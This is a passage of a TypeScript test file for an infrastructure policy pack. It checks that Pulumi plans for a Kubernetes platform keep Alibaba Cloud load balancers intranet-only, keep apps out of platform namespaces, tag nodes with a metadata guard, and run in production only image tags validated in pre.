      const byName = planWith({ annotations: { [NEW]: "internet" } }, { ...lb, metadata: { ...lb.metadata, name: U } });
      expect(messages(byName, merge())).toEqual([
        `order-patch: ServicePatch whose metadata.name is ${U}, so which Service it patches, and whether that becomes an internet-facing LoadBalancer, is not shown; give it a literal name and namespace; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      expect(messages(byName, p())).toEqual([legacyOnly(`commerce/${U}`)]);
      const byNamespace = planWith({ annotations: { [NEW]: "internet" } }, { ...lb, metadata: { ...lb.metadata, namespace: U } });
      expect(messages(byNamespace, merge())).toEqual([
        `order-patch: ServicePatch whose metadata.namespace is ${U}, so which Service it patches, and whether that becomes an internet-facing LoadBalancer, is not shown; give it a literal name and namespace; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // The patch with the alibaba-cloud- intranet annotation as well: alone it passes; its unknown target is still named.
      const both = planWith({}, { metadata: { name: U, annotations: { [NEW]: "intranet", [LEGACY]: "intranet" } }, spec: { type: "LoadBalancer" } });
      expect(messages(both, p())).toEqual([]);
      expect(messages(both, merge())).toHaveLength(1);
    });

    test("M-1: an autonamed Service (no metadata.name) matches no patch; the patch naming its real name is judged alone and needs the alibaba-cloud- annotation", () => {
      const s = planWith(
        { annotations: { [NEW]: "internet" } },
        { metadata: { name: "order-service-x1y2z3", annotations: { [LEGACY]: "intranet" } }, spec: { type: "LoadBalancer" } },
      );
      delete any(one(s, ORDER_SVC).props).metadata.name;
      expect(messages(s, p())).toEqual([legacyOnly("commerce/order-service-x1y2z3")]);
      expect(messages(s, merge())).toEqual([]);
      // Nor is the autonamed Service matched by its Pulumi name (the old fallback): a patch naming that is judged alone.
      const byPulumiName = planWith({ annotations: { [NEW]: "intranet" } }, { metadata: { name: ORDER_SVC }, spec: { type: "LoadBalancer" } });
      delete any(one(byPulumiName, ORDER_SVC).props).metadata.name;
      const svc = any(one(byPulumiName, ORDER_SVC).props);
      svc.spec.type = "ClusterIP";
      svc.metadata.annotations = { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id": "lb-internet0001" };
      expect(messages(byPulumiName, merge())).toEqual([]);
    });

    test("two patches of one Service are merged together, in every order (plan order is not apply order)", () => {
      const ID = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id";
      /** The Service (ClusterIP, no annotations), order-patch with `first`, order-patch-2 making it an intranet LoadBalancer. */
      const twoPatches = (first: Record<string, unknown>) => {
        const s = planWith({}, { metadata: { annotations: first } });
        s.resources.push({
          type: "kubernetes:core/v1:ServicePatch",
          name: "order-patch-2",
          urn: "urn:pulumi:prod1::platform::kubernetes:core/v1:ServicePatch::order-patch-2",
          props: { metadata: { name: "order-service", namespace: "commerce", annotations: { [NEW]: "intranet" } }, spec: { type: "LoadBalancer" } },
        });
        return s;
      };
      // Only both together are a LoadBalancer reusing an existing load balancer: neither patch over the Service alone shows it.
      expect(messages(twoPatches({ [ID]: "lb-internet0001" }), merge())).toEqual([
        `Service commerce/order-service with its ServicePatches order-patch, order-patch-2 applied (in some order) is a LoadBalancer Service that reuses the existing load balancer "lb-internet0001" (loadbalancer-id), whose address type the plan does not show; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // In plan order order-patch-2's intranet wins; applied the other way round (its update first), order-patch's internet does.
      expect(messages(twoPatches({ [NEW]: "internet" }), merge())).toEqual([
        `Service commerce/order-service with its ServicePatches order-patch, order-patch-2 applied (in some order) is a LoadBalancer Service that gets an internet-facing SLB (address-type "internet"); annotate ${NEW}: intranet; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // order-patch sizing the load balancer: private in every order; each patch alone passes no-public-load-balancers.
      const sized = twoPatches({ "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-spec": "slb.s2.small" });
      expect([messages(sized, merge()), messages(sized, p())]).toEqual([[], []]);
    });

    test("a type or annotations unknown during preview in the merge are named", () => {
      const U = "(unknown during preview)";
      const type = planWith({ annotations: { [NEW]: "intranet" } }, { spec: { type: U } });
      expect(messages(type, merge())).toEqual([
        `Service commerce/order-service with its ServicePatch order-patch applied: spec.type ${U}: whether it is a LoadBalancer, and with which address, is unknown; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // The Service's annotations unknown (it is ClusterIP, so alone it decides nothing); the patch makes it a LoadBalancer.
      const annotations = planWith({}, { metadata: { annotations: { [NEW]: "intranet" } }, spec: { type: "LoadBalancer" } });
      any(one(annotations, ORDER_SVC).props).metadata.annotations = U;
      expect(messages(annotations, p())).toEqual([]);
      expect(messages(annotations, merge())).toEqual([
        `Service commerce/order-service with its ServicePatch order-patch applied is a LoadBalancer whose metadata.annotations are ${U}: whether it is intranet is unknown; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
    });
  });

  test("a ServicePatch: spec.type LoadBalancer needs the intranet annotation in the patch; an address-type set to internet or removed is refused without spec.type", () => {
    const NEW = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type";
    const patch = (props: Record<string, unknown>) =>
      mutated((s) =>
        add(s, "kubernetes:core/v1:ServicePatch", "order-patch", {
          ...props,
          metadata: { name: "order-service", namespace: "commerce", ...(props.metadata as object) },
        }),
      );
    expect(messages(patch({ spec: { type: "LoadBalancer" } }), p())).toEqual([
      `order-patch: ServicePatch making a LoadBalancer Service of commerce/order-service gets an internet-facing SLB (address-type unset, so internet); annotate ${NEW}: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: { [NEW]: "intranet" } }, spec: { type: "LoadBalancer" } }), p())).toEqual([]);
    expect(messages(patch({ metadata: { annotations: { [NEW]: "internet" } } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service sets ${NEW} to "internet", which makes its load balancer internet-facing (or drops intranet); must be intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: { [NEW]: null } } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service sets ${NEW} to null, which makes its load balancer internet-facing (or drops intranet); must be intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: { [NEW]: "intranet" } } }), p())).toEqual([]);
    expect(messages(patch({ metadata: { labels: { tier: "web" } } }), p())).toEqual([]);
    // Without spec.type too: a reused load balancer, another controller, the address type in another case (the
    // CCM's values are case-sensitive), an IPv6 address type, annotations unknown during preview.
    const ID = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id";
    const V6 = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-ipv6-address-type";
    expect(messages(patch({ metadata: { annotations: { [ID]: "lb-public" } } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service reuses the existing load balancer "lb-public" (loadbalancer-id), whose address type the plan does not show; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ spec: { loadBalancerClass: "example.com/lb" } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service sets loadBalancerClass "example.com/lb", so another controller decides its address, which the plan does not show; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: { [NEW]: "INTRANET" } } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service sets ${NEW} to "INTRANET", which makes its load balancer internet-facing (or drops intranet); must be intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: { [V6]: "internet" } } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service sets ${V6} to "internet", which makes its load balancer internet-facing (or drops intranet); must be intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(patch({ metadata: { annotations: "(unknown during preview)" } }), p())).toEqual([
      `order-patch: ServicePatch of commerce/order-service metadata.annotations (unknown during preview): whether it moves its load balancer is unknown; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("a Service type unknown during preview is named: a Service, a ServicePatch, a chart's modelled and generic Service values", () => {
    const U = "(unknown during preview)";
    const bad = mutated((s) => {
      any(one(s, "prod1-order-service-service-order-service").props).spec.type = U;
      add(s, "kubernetes:core/v1:ServicePatch", "order-patch", { metadata: { name: "web", namespace: "commerce" }, spec: { type: U } });
      any(one(s, "prod1-ingress-controller").props).values.controller.service.type = U;
      any(one(s, "prod1-tracing-skywalking").props).values.ui.service = { type: U };
    });
    const WHY = `whether it is a LoadBalancer, and with which address, is unknown; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    const CHART = `whether the chart renders a LoadBalancer Service, and with which address, is unknown; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    expect(messages(bad, p()).sort()).toEqual([
      `order-patch: ServicePatch of commerce/web spec.type ${U}: ${WHY}`,
      `prod1-ingress-controller: ingress-nginx/ingress-nginx values controller.service.type ${U}: ${CHART}`,
      `prod1-order-service-service-order-service: Service commerce/order-service spec.type ${U}: ${WHY}`,
      `prod1-tracing-skywalking: tracing/skywalking values ui.service.type ${U}: ${CHART}`,
    ]);
  });

  test("kubelet-csr-approver's metrics.serviceType unknown during preview is named, whether the value, its map or all values are unknown", () => {
    const U = "(unknown during preview)";
    const CSR = "prod1-metrics-csr-approver";
    const CHART = `whether the chart renders a LoadBalancer Service, and with which address, is unknown; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    const csr = (values: (v: Record<string, any>) => unknown) =>
      messages(
        mutated((s) => (any(one(s, CSR).props).values = values(any(one(s, CSR).props).values))),
        p(),
      );
    expect(csr((v) => ({ ...v, metrics: { serviceType: U } }))).toEqual([`${CSR}: kube-system/kubelet-csr-approver values metrics.serviceType ${U}: ${CHART}`]);
    expect(csr((v) => ({ ...v, metrics: U }))).toEqual([`${CSR}: kube-system/kubelet-csr-approver values metrics ${U}: ${CHART}`]);
    expect(csr(() => U)).toEqual([`${CSR}: kube-system/kubelet-csr-approver values ${U}: ${CHART}`]);
    // Known and not LoadBalancer passes; switched off (known) passes whatever the type.
    expect(csr((v) => ({ ...v, metrics: { serviceType: "ClusterIP" } }))).toEqual([]);
    expect(csr((v) => ({ ...v, metrics: { enable: false, serviceType: U } }))).toEqual([]);
    // The same for the other modelled maps: ingress-nginx's controller.service unknown is named once (not read as its
    // default LoadBalancer with no annotation), all of a release's values unknown once, whatever the chart.
    const NGINX = "prod1-ingress-controller";
    const nginx = mutated((s) => (any(one(s, NGINX).props).values.controller.service = U));
    expect(messages(nginx, p())).toEqual([`${NGINX}: ingress-nginx/ingress-nginx values controller.service ${U}: ${CHART}`]);
    const all = mutated((s) => {
      any(one(s, NGINX).props).values = U;
      any(one(s, "prod1-logging-fluent-bit").props).values = U;
    });
    expect(messages(all, p())).toEqual([
      `prod1-logging-fluent-bit: logging/fluent-bit values ${U}: ${CHART}`,
      `${NGINX}: ingress-nginx/ingress-nginx values ${U}: ${CHART}`,
    ]);
  });

  test("ingress-nginx's internal Service takes its type from controller.service.type when its own is empty (typeFrom)", () => {
    const internal = (serviceType: string) =>
      mutated((s) => {
        any(one(s, "prod1-ingress-controller").props).values.controller.service = {
          type: serviceType,
          annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" },
          internal: { enabled: true, annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-spec": "slb.s1.small" } },
        };
      });
    expect(messages(internal("NodePort"), p())).toEqual([]);
    expect(messages(internal("LoadBalancer"), p())).toEqual([
      `prod1-ingress-controller: ingress-nginx/ingress-nginx values controller.service.internal render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("a chart whose default Service type is LoadBalancer, with no type key in the release's values, is refused; type: ClusterIP passes", () => {
    const KPS = "prod1-monitoring-kube-prometheus-stack";
    const thanos = (external: Record<string, unknown>) =>
      mutated((s) => {
        const v = any(one(s, KPS).props).values;
        v.prometheus = { ...v.prometheus, thanosServiceExternal: external };
      });
    // kube-prometheus-stack 87.12.5 values.yaml:3705-3733: thanosServiceExternal defaults to type LoadBalancer.
    expect(messages(thanos({ enabled: true }), p())).toEqual([
      `${KPS}: monitoring/kube-prometheus-stack values prometheus.thanosServiceExternal render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(thanos({ enabled: true, type: "ClusterIP" }), p())).toEqual([]);
    expect(messages(thanos({ enabled: false }), p())).toEqual([]);
    expect(messages(thanos({ enabled: true, annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" } }), p())).toEqual(
      [],
    );
    // kubelet-csr-approver reads its type from metrics.serviceType, a key the generic walk does not read.
    const csr = mutated((s) => {
      any(one(s, "prod1-metrics-csr-approver").props).values.metrics = { serviceType: "LoadBalancer" };
    });
    expect(messages(csr, p())).toEqual([
      `prod1-metrics-csr-approver: kube-system/kubelet-csr-approver values metrics render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    // A chart of the table at another version is refused until its Service defaults are read again.
    const bumped = mutated((s) => {
      one(s, KPS).props.version = "88.0.0";
    });
    expect(messages(bumped, p())).toEqual([
      `${KPS}: monitoring/kube-prometheus-stack installs chart kube-prometheus-stack 88.0.0, whose Service defaults the pack read at 87.12.5 only (CHART_SERVICE_VALUES), so whether it renders a LoadBalancer by default is unknown; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("every Helm release of the six stacks' plans installs a chart at the version CHART_SERVICE_VALUES read, and each plan passes", async () => {
    const seen = new Set<string>();
    for (const stack of ["host", "dev", "test", "pre", "prod1", "prod2"]) {
      const s = stack === "prod1" ? prod1 : planToPolicyStack(await plan(stack));
      for (const r of s.resources.filter((x) => x.type === "kubernetes:helm.sh/v3:Release"))
        seen.add(`${chartRef(String(r.props.chart), String(r.props.version)).name}@${String(r.props.version)}`);
      expect(messages(s, p())).toEqual([]);
    }
    expect([...seen].sort()).toEqual([
      "alibaba-cloud-csi-driver@1.36.2",
      "fluent-bit@0.57.9",
      "ingress-nginx@4.15.1",
      "ks-core@1.1.4",
      "kube-prometheus-stack@87.12.5",
      "kubelet-csr-approver@1.2.14",
      "metrics-server@3.13.1",
      "skywalking-helm@4.7.0",
    ]);
    expect(
      Object.entries(CHART_SERVICE_VALUES)
        .map(([name, c]) => `${name}@${c.version}`)
        .sort(),
    ).toEqual([...seen].sort());
  }, 120_000);

  test("a LoadBalancer Service annotated intranet passes", () => {
    const ok = mutated((s) => {
      const svc = any(one(s, "prod1-order-service-service-order-service").props);
      svc.spec.type = "LoadBalancer";
      svc.metadata.annotations = { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" };
    });
    expect(messages(ok, p())).toEqual([]);
  });
});

describe("platform-namespaces (T17)", () => {
  const p = () => platformNamespaces("mandatory", cfg("platform-namespaces"));

  test("prod1 passes; an app in kubesphere-system and a workspace binding in kubesphere-controls-system fail", async () => {
    expect(messages(prod1, p())).toEqual([]);
    const bad = mutated((s) => {
      any(one(s, ORDER).props).metadata.namespace = "kubesphere-system";
      any(one(s, "prod1-console-rolebinding-commerce-ops.wang-admin").props).metadata.namespace = "kubesphere-controls-system";
      any(one(s, "prod1-apps-namespace-scm").props).metadata.name = "kube-system";
    });
    const found = messages(bad, p());
    expect(found).toHaveLength(3);
    expect(found).toContain(
      `${ORDER}: app object in platform namespace kubesphere-system (default, kube-system, kube-public, kube-node-lease, kube-flannel, ingress-nginx, logging, monitoring, tracing, kubesphere-system, kubesphere-controls-system, kubesphere-monitoring-system, kubesphere-monitoring-federated, kubesphere-logging-system, kubekey-system); apps and workspaces get namespaces of their own`,
    );
    expect(
      found.some((m) =>
        m.startsWith("prod1-console-rolebinding-commerce-ops.wang-admin: KubeSphere role binding in platform namespace kubesphere-controls-system"),
      ),
    ).toBe(true);
    expect(found.some((m) => m.startsWith("prod1-apps-namespace-scm: app object in platform namespace kube-system"))).toBe(true);
  });

  test("an app in tracing (SkyWalking's OAP and its Elasticsearch credentials) fails; the pack's list is config's RESERVED_NAMESPACES", () => {
    const bad = mutated((s) => {
      any(one(s, ORDER).props).metadata.namespace = "tracing";
    });
    expect(messages(bad, p()).map((m) => m.split(" (")[0])).toEqual([`${ORDER}: app object in platform namespace tracing`]);
    // One list: config refuses every namespace the pack protects, in prod and elsewhere.
    for (const file of ["prod", "nonprod"])
      expect(loadPolicyConfig(policyConfigFileFor(file === "prod" ? "prod1" : "dev")).get("platform-namespaces")!.config.platformNamespaces).toEqual(
        RESERVED_NAMESPACES,
      );
  });

  test("platform components in their own namespaces are not app objects", () => {
    // fluent-bit's release lives in logging, flannel in kube-flannel: neither is under an app component.
    expect(one(prod1, "prod1-logging-fluent-bit").urn).not.toContain("JavaApp");
    expect(messages(prod1, p())).toEqual([]);
  });
});

describe("the host is judged with the prod rules (T20)", () => {
  test("the host's config file is prod.json; its plan passes; a node without deletion protection is a mandatory violation", async () => {
    expect(policyConfigFileFor("host")).toBe(policyConfigFileFor("prod1"));
    const hostPlan = await plan("host");
    expect(checkPlan(hostPlan, loadPolicyConfig(policyConfigFileFor("host")))).toEqual([]);
    const host = planToPolicyStack(hostPlan);
    const master = host.resources.find((r) => r.name === "host-master-0")!;
    expect(master.props.deletionProtection).toBe(true);
    master.props.deletionProtection = false;
    const found = runPolicies(host, [deletionProtection("mandatory")]);
    expect(found.map((v) => [v.level, v.message])).toEqual([["mandatory", "host-master-0: deletionProtection is false; must be true"]]);
  });
});

describe("metadata-guard (T12)", () => {
  const p = () => metadataGuard("mandatory", cfg("metadata-guard"));
  const nodes = (s: PolicyStack) => s.resources.filter((r) => r.type === "alicloud:ecs/instance:Instance" && any(r.props.tags)["platform:role"] !== undefined);

  test("prod1 passes: its 31 nodes (3 masters, 28 workers) carry the tag; the HAProxy pair runs no pods", () => {
    expect(messages(prod1, p())).toEqual([]);
    expect(nodes(prod1)).toHaveLength(31);
    for (const n of nodes(prod1)) expect(any(n.props.tags)["platform:metadata-guard"]).toBe("k8s-metadata-guard.service");
    expect(any(one(prod1, "prod1-haproxy-0").props.tags)["platform:metadata-guard"]).toBeUndefined();
    expect(cfg("metadata-guard").podlessParents).toEqual(["platform:cluster:ApiServerFront$platform:compute:NodePool"]);
    expect(one(prod1, "prod1-haproxy-0").parent).toBe(
      "urn:pulumi:prod1::platform::platform:cluster:ApiServerFront$platform:compute:NodePool::prod1-front-haproxy",
    );
  });

  test("a worker and a master without the tag, or with another value, are mandatory violations", () => {
    const bad = mutated((s) => {
      delete any(one(s, "prod1-general-3").props.tags)["platform:metadata-guard"];
      any(one(s, "prod1-master-1").props.tags)["platform:metadata-guard"] = "none";
    });
    expect(runPolicies(bad, [p()]).map((v) => [v.level, v.message])).toEqual([
      [
        "mandatory",
        'prod1-master-1: platform:metadata-guard is "none"; a node that runs pods must carry platform:metadata-guard: k8s-metadata-guard.service (its user data installs the guard that keeps pods from the metadata service); exempt are only instances under platform:cluster:ApiServerFront$platform:compute:NodePool (podlessParents), whatever their tags',
      ],
      [
        "mandatory",
        "prod1-general-3: has no platform:metadata-guard tag; a node that runs pods must carry platform:metadata-guard: k8s-metadata-guard.service (its user data installs the guard that keeps pods from the metadata service); exempt are only instances under platform:cluster:ApiServerFront$platform:compute:NodePool (podlessParents), whatever their tags",
      ],
    ]);
  });

  test("a worker tagged like the HAProxy pair (platform:pool: haproxy, no guard tag) is still refused: the exemption is its parent, not a tag", () => {
    const spoof = mutated((s) => {
      const tags = any(one(s, "prod1-general-3").props.tags);
      tags["platform:pool"] = "haproxy";
      tags["platform:role"] = "haproxy";
      delete tags["platform:metadata-guard"];
    });
    expect(messages(spoof, p())).toEqual([
      "prod1-general-3: has no platform:metadata-guard tag; a node that runs pods must carry platform:metadata-guard: k8s-metadata-guard.service (its user data installs the guard that keeps pods from the metadata service); exempt are only instances under platform:cluster:ApiServerFront$platform:compute:NodePool (podlessParents), whatever their tags",
    ]);
  });

  test("the HAProxy pair stays exempt without its pool tag; a parent chain only ends at a $ boundary; no parent means no exemption", () => {
    const untagged = mutated((s) => {
      delete any(one(s, "prod1-haproxy-1").props.tags)["platform:pool"];
    });
    expect(messages(untagged, p())).toEqual([]);
    expect(
      parentChainEndsWith("urn:pulumi:prod1::platform::platform:x:Y$platform:cluster:ApiServerFront$platform:compute:NodePool::n", HAPROXY_POOL_PARENT),
    ).toBe(true);
    expect(parentChainEndsWith("urn:pulumi:prod1::platform::evil:platform:cluster:ApiServerFront$platform:compute:NodePool::n", HAPROXY_POOL_PARENT)).toBe(
      false,
    );
    expect(parentChainEndsWith("urn:pulumi:prod1::platform::platform:cluster:Cluster$platform:compute:NodePool::prod1-general", HAPROXY_POOL_PARENT)).toBe(
      false,
    );
    const orphan = mutated((s) => {
      delete one(s, "prod1-haproxy-1").parent;
    });
    expect(messages(orphan, p())).toEqual([expect.stringMatching(/^prod1-haproxy-1: has no platform:metadata-guard tag;/)]);
  });
});

describe("validated-in-pre (T21): the real preview refuses a prod tag pre never ran", () => {
  const p = () => validatedInPre("mandatory", cfg("validated-in-pre"));
  const PRE_ORDER_TAGS = ["order-service-v2.3.1", "order-service-v2.3.0", "order-service-v2.2.4", "order-service-v2.2.3"];

  test("prod1 passes; each JavaApp component carries the tags pre validated for it, read from pre's output (offline: from Pulumi.pre.yaml)", () => {
    expect(messages(prod1, p())).toEqual([]);
    // Its registered outputs, which is what CrossGuard's stack policies see.
    expect(one(prod1, "prod1-order-service").props).toEqual({
      serviceName: "order-service",
      namespace: "commerce",
      image: "harbor.livemall.internal/commerce/order-service:order-service-v2.3.0",
      app: "order-service",
      validatedInPre: PRE_ORDER_TAGS,
    });
    expect(cfg("validated-in-pre").required).toBe(true);
  });

  test("a canary of a build pre never ran, and a stable tag pre never ran, are mandatory violations of the whole plan", async () => {
    // The program refuses these before registering anything (test/fleet/validatedInPre.test.ts); here pre's output is
    // answered as if pre ran them, and each JavaApp's list is then put back to what pre validated: the pack's own check.
    const ran = (app: string, repository: string, tags: string[]) => ({ [app]: { repository, tags } });
    const canary = await plan("prod1", ['platform:apps.order-service.canary={"tag":"order-service-v2.9.0","header":"X-Canary"}'], {
      stackOutputs: preValidating(ran("order-service", "harbor.livemall.internal/commerce/order-service", [...PRE_ORDER_TAGS, "order-service-v2.9.0"])),
    });
    const app = canary.resources.find((r) => r.name === "prod1-order-service")!;
    (app.outputs as { validatedInPre: string[] }).validatedInPre = PRE_ORDER_TAGS;
    const found = checkPlan(canary, prodConfig).filter((v) => v.policy === "validated-in-pre");
    expect(found.map((v) => [v.level, v.message])).toEqual([
      [
        "mandatory",
        `prod1-order-service-deployment-order-service-canary: commerce/order-service-canary container app runs harbor.livemall.internal/commerce/order-service:order-service-v2.9.0, a tag pre never validated (pre ran ${PRE_ORDER_TAGS.join(", ")}); release it into pre, then \`npm run promote -- pre <prod stack> order-service\``,
      ],
    ]);
    const stable = planToPolicyStack(
      await plan("prod1", ["platform:apps.supply-chain.tag=supply-chain-v9.0.0"], {
        stackOutputs: preValidating(ran("supply-chain", "harbor.livemall.internal/scm/supply-chain", ["supply-chain-v9.0.0"])),
      }),
    );
    one(stable, "prod1-supply-chain").props.validatedInPre = ["supply-chain-v3.1.2", "supply-chain-v3.1.1"];
    expect(messages(stable, p())).toEqual([
      expect.stringMatching(
        /^prod1-supply-chain-deployment-supply-chain: scm\/supply-chain container app runs \S+:supply-chain-v9\.0\.0, a tag pre never validated \(pre ran /,
      ),
    ]);
  });

  test("promoting pre's current tag passes; a plan whose JavaApp lost its list is refused", async () => {
    const promoted = planToPolicyStack(await plan("prod1", ["platform:apps.order-service.tag=order-service-v2.3.1"]));
    expect(messages(promoted, p())).toEqual([]);
    const bare = mutated((s) => {
      one(s, "prod1-order-service").props = {};
    });
    expect(messages(bare, p())).toEqual([
      "prod1-order-service-deployment-order-service: commerce/order-service is an app Deployment but the plan carries no list of the tags pre validated for order-service (its JavaApp component's validatedInPre); prod runs only what pre validated",
    ]);
  });

  test("every container counts, whatever its name: a sidecar, a renamed app container, an init container with an unvalidated image", () => {
    expect(cfg("validated-in-pre").sidecarImages).toEqual([
      "mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine",
      "mirror.livemall.internal/docker.io/library/busybox:1.36.1",
    ]);
    const bad = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.containers[0].name = "main";
      spec.containers[0].image = "harbor.livemall.internal/commerce/order-service:order-service-v9.9.9";
      spec.containers.push({ name: "helper", image: "harbor.livemall.internal/commerce/payment-gateway:payment-gateway-v1.0.0" });
      spec.initContainers[0].image = "mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.4.0-alpine";
    });
    expect(messages(bad, p())).toEqual([
      `${ORDER}: commerce/order-service container skywalking-agent runs mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.4.0-alpine, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
      `${ORDER}: commerce/order-service container main runs harbor.livemall.internal/commerce/order-service:order-service-v9.9.9, a tag pre never validated (pre ran ${PRE_ORDER_TAGS.join(", ")}); release it into pre, then \`npm run promote -- pre <prod stack> order-service\``,
      `${ORDER}: commerce/order-service container helper runs harbor.livemall.internal/commerce/payment-gateway:payment-gateway-v1.0.0, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
    ]);
    // supply-chain's log-tail busybox sidecars are the platform's: prod1 passes with them (asserted above).
    const supply = podSpec(prod1, "prod1-supply-chain-deployment-supply-chain");
    expect([...supply.initContainers, ...supply.containers].map((c: { name: string; image: string }) => `${c.name} ${c.image}`)).toEqual([
      "skywalking-agent mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine",
      "log-tail-0 mirror.livemall.internal/docker.io/library/busybox:1.36.1",
      "log-tail-1 mirror.livemall.internal/docker.io/library/busybox:1.36.1",
      "app harbor.livemall.internal/scm/supply-chain:supply-chain-v3.1.1",
    ]);
  });

  test("every kind under a JavaApp counts (a Job, a CronJob, a StatefulSet patch), ephemeral containers too; a digest on the app's image is refused", () => {
    const IMG = "harbor.livemall.internal/commerce/order-service";
    const under = (s: PolicyStack, type: string, name: string, spec: Record<string, unknown>) =>
      s.resources.push({
        type,
        name,
        urn: `urn:pulumi:prod1::platform::platform:k8s:JavaApp$${type}::${name}`,
        props: { metadata: { name, namespace: "commerce", labels: { "app.kubernetes.io/name": "order-service" } }, spec },
      });
    const bad = mutated((s) => {
      under(s, "kubernetes:batch/v1:Job", "migrate", { template: { spec: { containers: [{ name: "m", image: `${IMG}:order-service-v9.0.0` }] } } });
      under(s, "kubernetes:batch/v1:CronJob", "nightly", {
        jobTemplate: { spec: { template: { spec: { containers: [{ name: "n", image: `${IMG}:order-service-v2.3.1` }] } } } },
      });
      under(s, "kubernetes:apps/v1:StatefulSetPatch", "cache", { template: { spec: { containers: [{ name: "c", image: "redis:7" }] } } });
      podSpec(s, ORDER).ephemeralContainers = [{ name: "debug", image: "mirror.livemall.internal/docker.io/library/busybox:1.37.0" }];
      podSpec(s, ORDER).containers[0].image = `${IMG}:order-service-v2.3.0@sha256:${"ab".repeat(32)}`;
    });
    expect(messages(bad, p())).toEqual([
      `${ORDER}: commerce/order-service container app runs ${IMG}:order-service-v2.3.0@sha256:${"ab".repeat(32)}, whose digest @sha256:${"ab".repeat(32)} picks the build, not the tag pre validated; name the app's image by a validated tag alone`,
      `${ORDER}: commerce/order-service container debug runs mirror.livemall.internal/docker.io/library/busybox:1.37.0, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
      `migrate: commerce/migrate container m runs ${IMG}:order-service-v9.0.0, a tag pre never validated (pre ran ${PRE_ORDER_TAGS.join(", ")}); release it into pre, then \`npm run promote -- pre <prod stack> order-service\``,
      `cache: commerce/cache container c runs redis:7, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
    ]);
  });

  test("nonprod.json does not require it: pre runs its own candidates", async () => {
    const pre = planToPolicyStack(await plan("pre"));
    expect(messages(pre, validatedInPre("advisory", loadPolicyConfig(policyConfigFileFor("pre")).get("validated-in-pre")!.config))).toEqual([]);
    expect(pre.resources.find((r) => r.type === "platform:k8s:JavaApp")!.props).toEqual({
      serviceName: "order-service",
      namespace: "commerce",
      image: "harbor.livemall.internal/commerce/order-service:order-service-v2.3.1",
    });
  });
});

describe("issue #30: a chart URL in any case of scheme, with a query, or beside a trusted repo", () => {
  const sources = () => trustedSources("mandatory", cfg("trusted-sources"));
  const SRC_FIX = "trusted sources live in the pack config (policies/config/prod.json or nonprod.json, trusted-sources), not in the stack file";
  const TRUSTED =
